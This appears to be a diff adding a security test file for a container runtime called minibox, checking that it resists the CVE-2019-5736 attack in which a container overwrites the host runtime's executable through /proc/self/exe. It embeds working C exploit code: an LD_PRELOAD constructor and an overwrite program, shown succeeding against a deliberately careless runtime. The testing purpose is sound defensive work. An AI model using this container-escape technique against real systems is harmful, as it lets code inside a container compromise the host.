@@ -1,0 +1,95 @@
+// Owns: the host's minibox overwritten from inside through /proc/PID/exe (CVE-2019-5736).
+
+import { afterAll, beforeAll, expect, test } from "bun:test";
+import {
+  chmodSync,
+  copyFileSync,
+  cpSync,
+  existsSync,
+  mkdirSync,
+  mkdtempSync,
+  readFileSync,
+  rmSync,
+  writeFileSync,
+} from "node:fs";
+import { tmpdir } from "node:os";
+import { dirname, join } from "node:path";
+import { compile } from "../support/attack.ts";
+import { execute, MINIBOX, rootfs } from "../support/minibox.ts";
+
+/** Opens what a descriptor without rights leads to for writing, in both ways that there are. */
+const OVERWRITE = `#include <errno.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <string.h>
+#include <unistd.h>
+int main(int n, char **v) {
+  for (int i = 0; i < 2; i++) {
+    int w = open(v[1], i ? O_WRONLY : O_WRONLY | O_TRUNC);
+    printf("%s\\n", w < 0 ? strerror(errno) : "open");
+    if (w >= 0) write(w, "hacked", 6);
+  }
+  return 0;
+}`;
+
+/** Loaded into whatever the image starts: keeps a descriptor of that program's file, and leaves the program. */
+const EVIL = `#define _GNU_SOURCE
+#include <fcntl.h>
+#include <stdlib.h>
+#include <unistd.h>
+__attribute__((constructor)) static void evil(void) {
+  unsetenv("LD_PRELOAD");
+  dup2(open("/proc/self/exe", O_PATH), 99);
+  execl("/overwrite", "overwrite", "/proc/self/fd/99", (char *)0);
+}`;
+
+/** A container runtime's last step, without any care. */
+const RUNTIME = `#include <unistd.h>
+int main(int n, char **v) { return chroot(v[1]) || chdir("/") || execv(v[2], v + 2); }`;
+
+let directory: string;
+let root: string;
+beforeAll(() => {
+  directory = mkdtempSync(join(tmpdir(), "minibox-exe-"));
+  root = join(directory, "root");
+  cpSync(rootfs("host"), root, { recursive: true, verbatimSymlinks: true });
+  // what minibox itself is linked with, so that it starts in there
+  for (const [, library] of Bun.spawnSync(["ldd", MINIBOX])
+    .stdout.toString()
+    .matchAll(/(\/\S+\.so\S*) \(/g)) {
+    const place = join(root, library!);
+    if (existsSync(place)) continue;
+    mkdirSync(dirname(place), { recursive: true });
+    copyFileSync(library!, place);
+  }
+  copyFileSync(compile(OVERWRITE), join(root, "overwrite"));
+  copyFileSync(compile(EVIL, ["-shared", "-fPIC"]), join(root, "evil.so"));
+  writeFileSync(join(root, "again"), "#!/proc/self/exe\n", { mode: 0o755 });
+});
+afterAll(() => rmSync(directory, { recursive: true, force: true }));
+
+test("a runtime that takes no care loses its executable to the image", async () => {
+  const runtime = join(directory, "runtime");
+  copyFileSync(compile(RUNTIME, []), runtime);
+  chmodSync(runtime, 0o755);
+  const script = 'mount -t proc proc "$1/proc" && exec "$0" "$@"';
+  const result = await execute(["unshare", "-m", "sh", "-c", script, runtime, root, "/again"], {
+    env: { LD_PRELOAD: "/evil.so", PATH: process.env.PATH! },
+  });
+  expect(result.stdout).toBe("open\nopen\n");
+  expect(readFileSync(runtime, "utf8")).toBe("hacked");
+});
+
+test("minibox started again by the image cannot be written through /proc/self/exe", async () => {
+  const copy = join(directory, "minibox");
+  cpSync(MINIBOX, copy);
+  const result = await execute([copy, "run", "-e", "LD_PRELOAD=/evil.so", root, "/again"]);
+  // truncating asks the mount first; opening asks whether it runs first, and that of the supervisor's does
+  expect(result.stdout).toBe("Read-only file system\nText file busy\n");
+  expect(Bun.hash(readFileSync(copy))).toBe(Bun.hash(readFileSync(MINIBOX)));
+});
+
+test("nobody inside sees the executable of a minibox that stays as PID 1", async () => {
+  const result = await execute([MINIBOX, "run", "--init", root, "/overwrite", "/proc/1/exe"]);
+  expect(result.stdout).toBe("Permission denied\nPermission denied\n");
+});
